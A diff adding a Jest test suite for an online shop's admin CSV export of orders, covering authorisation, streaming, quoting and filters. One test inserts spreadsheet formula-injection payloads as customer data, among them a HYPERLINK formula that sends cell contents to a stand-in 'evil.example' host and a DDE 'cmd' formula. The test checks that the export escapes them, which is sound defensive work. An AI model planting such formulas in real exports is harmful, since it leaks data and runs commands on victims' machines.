@@ -1,0 +1,203 @@
+import { get, type IncomingMessage } from 'node:http';
+import { once } from 'node:events';
+import { jest } from '@jest/globals';
+import { OrderManagement } from '../../server/checkout/index.js';
+import { addCustomer, addOrder } from '../support/order-rows.js';
+import { TestShop } from '../support/test-shop.js';
+import { until } from '../support/until.js';
+
+jest.setTimeout(120_000);
+
+const HEADER =
+  'Order Number,Date,Status,Payment,First Name,Last Name,Email,Subtotal,Shipping,Total,Refunded,Paid At,Shipped At,Carrier,Tracking Number';
+const MANY = 20_000;
+
+let shop: TestShop;
+let token: string;
+
+beforeAll(async () => {
+  shop = await TestShop.open({ workers: false });
+  ({ token } = await shop.signInOwner());
+});
+afterAll(() => shop.close());
+beforeEach(() => shop.sql('delete from checkout.orders'));
+afterEach(() => jest.restoreAllMocks());
+
+async function rows(query = ''): Promise<string[]> {
+  const answer = await shop.call('GET', `/api/admin/orders/export${query}`, { token });
+  expect(answer.status).toBe(200);
+  const lines = Buffer.from(await answer.arrayBuffer()).toString().split('\r\n');
+  expect(lines.at(-1)).toBe('');
+  return lines.slice(1, -1);
+}
+
+/** More than sockets and buffers hold. */
+async function addMany(): Promise<void> {
+  const customerId = await addCustomer(shop);
+  await addOrder(shop, { customerId, number: 'THE-OLDEST', at: '2020-01-01T00:00:00Z' });
+  await shop.sql(
+    `insert into checkout.orders (id, number, customer_id, email, idempotency_key, request_hash, status, payment_state, stock,
+       currency, subtotal_cents, shipping_cents, total_cents, refunded_cents, created_at, expires_at, next_check_at, carrier,
+       tracking_number)
+     select gen_random_uuid(), n::text, $1, '', n::text, '', 'pending', 'unpaid', 'none', 'usd', 100, 0, 100, 0, now(), now(), now(),
+       'UPS', repeat('x', 1000)
+     from generate_series(1, ${MANY}) n`,
+    [customerId],
+  );
+}
+
+interface Watched {
+  /** Orders that were handed out so far. */
+  taken: number;
+  ended: boolean;
+}
+
+function watchExports(): Watched {
+  const watched: Watched = { taken: 0, ended: false };
+  const management = shop.web.app.get(OrderManagement, { strict: false });
+  const original = management.allOrders.bind(management);
+  jest.spyOn(management, 'allOrders').mockImplementation(async function* (filter) {
+    try {
+      for await (const order of original(filter)) {
+        watched.taken += 1;
+        yield order;
+      }
+    } finally {
+      watched.ended = true;
+    }
+  });
+  return watched;
+}
+
+/** Begins the download and takes nothing of it yet. */
+async function begin(): Promise<IncomingMessage> {
+  const address = new URL('/api/admin/orders/export', shop.web.url);
+  const [answer] = (await once(get(address, { headers: { authorization: `Bearer ${token}` } }), 'response')) as [IncomingMessage];
+  answer.on('error', () => undefined);
+  return answer;
+}
+
+/** Resolves when nothing more is read for a while. */
+async function standsStill(watched: Watched): Promise<void> {
+  let last = -1;
+  await until(async () => {
+    const stands = watched.taken > 0 && watched.taken === last;
+    last = watched.taken;
+    return stands;
+  }, 20_000, 300);
+}
+
+describe('the export of orders', () => {
+  it('is refused to whoever is not the owner, and for filters that are none', async () => {
+    const shopper = await shop.signIn('shopper@example.com');
+    expect((await shop.call('GET', '/api/admin/orders/export')).status).toBe(401);
+    expect((await shop.call('GET', '/api/admin/orders/export', { token: shopper.token })).status).toBe(403);
+    for (const query of ['?status=lost', '?from=soon', '?search=a&search=b', '?customer=x']) {
+      const answer = await shop.call('GET', `/api/admin/orders/export${query}`, { token });
+      expect([answer.status, await answer.json()]).toMatchObject([400, { code: 'REQUEST.INVALID' }]);
+    }
+  });
+
+  it('says so when the orders cannot be read, instead of handing out an empty table', async () => {
+    const management = shop.web.app.get(OrderManagement, { strict: false });
+    // eslint-disable-next-line require-yield -- it fails before the first one
+    jest.spyOn(management, 'allOrders').mockImplementation(async function* () {
+      throw new Error('the database is away');
+    });
+    const answer = await shop.call('GET', '/api/admin/orders/export', { token });
+    expect([answer.status, await answer.json()]).toMatchObject([500, { code: 'SERVER.UNEXPECTED' }]);
+  });
+
+  it('breaks off where the orders cannot be read any further, so that nobody takes a part for the whole', async () => {
+    await addMany();
+    const watched = watchExports();
+    const answer = await begin();
+    await standsStill(watched);
+    await shop.sql('alter table checkout.orders rename to orders_away');
+    answer.resume();
+    await until(async () => answer.closed).finally(() => shop.sql('alter table checkout.orders_away rename to orders'));
+    expect(answer.complete).toBe(false);
+  });
+
+  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '=HYPERLINK("http://evil.example?"&A1,"click")', "=cmd|' /C calc'!A0"])(
+    'hands %j over as text and not as a formula',
+    async (evil) => {
+      const customerId = await addCustomer(shop, { firstName: evil, lastName: evil });
+      await addOrder(shop, { customerId, email: `${evil}@example.com`, carrier: evil, trackingNumber: evil });
+      const [row] = await rows();
+      const fields = row?.match(/"(?:[^"]|"")*"|[^,]+/g)?.map((field) => field.replace(/^"|"$/g, '').replaceAll('""', '"'));
+      for (const place of [4, 5]) expect(fields?.[place]).toBe(`'${evil}`);
+      expect(fields?.[6]).toBe(`'${evil}@example.com`);
+      expect(fields?.slice(-2)).toEqual([`'${evil}`, `'${evil}`]);
+    },
+  );
+
+  it('keeps commas, quotes and line breaks in their field', async () => {
+    const customerId = await addCustomer(shop, { firstName: 'Ann, "the\r\nboss"', lastName: 'Brontë 🎁' });
+    await addOrder(shop, { customerId, number: 'KS-1' });
+    const answer = await shop.call('GET', '/api/admin/orders/export', { token });
+    expect(await answer.text()).toContain(',"Ann, ""the\r\nboss""",Brontë 🎁,grace@example.com,');
+  });
+
+  it('is a private download of UTF-8 that spreadsheets recognise', async () => {
+    const answer = await shop.call('GET', '/api/admin/orders/export', { token });
+    expect(Object.fromEntries(answer.headers)).toMatchObject({
+      'content-type': 'text/csv; charset=utf-8',
+      'content-disposition': "attachment; filename*=UTF-8''keepsake-orders.csv",
+      'cache-control': 'private, no-store',
+    });
+    expect([...Buffer.from(await answer.arrayBuffer()).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+  });
+
+  it('has a row for every order, newest first, with plain amounts and times', async () => {
+    const customerId = await addCustomer(shop, { email: 'mateo@example.com', firstName: 'Mateo', lastName: 'Rivera' });
+    await addOrder(shop, { customerId, number: 'KS-1', email: '', at: '2026-11-20T12:00:00.5Z' });
+    const paid = { status: 'completed', payment: 'partly_refunded', refunded: 1050, carrier: 'UPS', trackingNumber: '1Z9' } as const;
+    await addOrder(shop, { customerId, number: 'KS-2', at: '2026-11-21T12:00:00Z', ...paid });
+    const answer = await shop.call('GET', '/api/admin/orders/export', { token });
+    const [header, ...lines] = Buffer.from(await answer.arrayBuffer()).toString().split('\r\n');
+    expect(header).toBe(`\ufeff${HEADER}`);
+    expect(lines).toEqual([
+      'KS-2,2026-11-21T12:00:00.000Z,completed,partly_refunded,Mateo,Rivera,grace@example.com,64.00,5.99,69.99,10.50,2026-11-21T12:00:00.000Z,,UPS,1Z9',
+      'KS-1,2026-11-20T12:00:00.500Z,pending,unpaid,Mateo,Rivera,mateo@example.com,64.00,5.99,69.99,0.00,,,,',
+      '',
+    ]);
+  });
+
+  it('has what the filters of the list let through', async () => {
+    const customerId = await addCustomer(shop, { firstName: 'Priya', lastName: 'Patel' });
+    await addOrder(shop, { customerId, number: 'KS-1', status: 'completed', at: '2026-11-20T12:00:00Z' });
+    await addOrder(shop, { customerId, number: 'KS-2', status: 'cancelled', at: '2026-11-21T12:00:00Z' });
+    await addOrder(shop, { customerId: await addCustomer(shop), number: 'KS-3', status: 'completed', at: '2026-11-22T12:00:00Z' });
+    const numbers = async (query: string) => (await rows(query)).map((row) => row.split(',')[0]);
+    expect(await numbers('?status=completed&search=priya')).toEqual(['KS-1']);
+    expect(await numbers('?from=2026-11-21&to=2026-11-21')).toEqual(['KS-2']);
+    expect(await numbers('?search=nobody')).toEqual([]);
+  });
+
+  it('reads no further than the browser takes', async () => {
+    await addMany();
+    const watched = watchExports();
+    const answer = await begin();
+    await standsStill(watched);
+    expect(watched.taken).toBeLessThan(MANY);
+    // It was not read yet, so what happens to it now is in the table.
+    await shop.sql(`update checkout.orders set status = 'cancelled' where number = 'THE-OLDEST'`);
+    const chunks: Buffer[] = [];
+    for await (const chunk of answer) chunks.push(chunk as Buffer);
+    const lines = Buffer.concat(chunks).toString().split('\r\n');
+    expect(lines).toHaveLength(MANY + 3);
+    expect(new Set(lines).size).toBe(lines.length);
+    expect(lines.at(-2)).toMatch(/^THE-OLDEST,.*,cancelled,/);
+  });
+
+  it('stops reading when the browser goes away', async () => {
+    await addMany();
+    const watched = watchExports();
+    const answer = await begin();
+    await standsStill(watched);
+    answer.destroy();
+    await until(async () => watched.ended);
+    expect(watched.taken).toBeLessThan(MANY);
+  });
+});
